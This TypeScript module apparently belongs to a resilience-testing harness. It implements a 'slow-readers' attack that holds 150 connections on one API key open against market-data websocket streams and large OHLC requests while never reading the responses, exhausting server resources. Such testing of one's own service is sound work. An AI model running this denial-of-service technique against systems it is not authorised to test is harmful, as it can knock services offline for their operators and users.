import { randomBytes } from 'node:crypto';
import type { Attack } from './attack.ts';
import { keepOpen, openSocket } from './sockets.ts';

const READERS = 150;
const STREAMS = ['/v1/market-data/ws', '/v1/indicators/ws', '/v1/triggers/ws'];

/** Opens streams and large answers, and reads none of them. */
export const slowReaders: Attack = {
  name: 'slow-readers',
  summary: `${READERS} connections of one account that open a stream or ask for a large answer and read nothing.`,
  async run({ host, port, keys: [key], pools }, tally, signal) {
    let count = 0;
    const open = () => {
      const kind = count++;
      const socket = openSocket(host, port, tally);
      socket.once('data', (chunk: Buffer) => {
        tally.count(/^HTTP\/1\.1 (\d{3})/.exec(chunk.toString('latin1'))?.[1] ?? 'data');
        // Reads no more.
        socket.pause();
      });
      const head = `Host: a\r\nX-API-Key: ${key}\r\n`;
      const mint = pools[kind % Math.max(1, pools.length)]?.mint ?? '';
      socket.on('connect', () => {
        if (kind % 4 === 3) {
          socket.write(
            `GET /v1/market/ohlc?token_address=${mint}&interval=1s&fill=previous HTTP/1.1\r\n${head}\r\n`,
          );
          return;
        }
        const handshake = `Connection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: ${randomBytes(16).toString('base64')}\r\n`;
        socket.write(`GET ${STREAMS[kind % 3]} HTTP/1.1\r\n${head}${handshake}\r\n`);
      });
      return socket;
    };
    await keepOpen(READERS, 5, open, signal);
  },
};
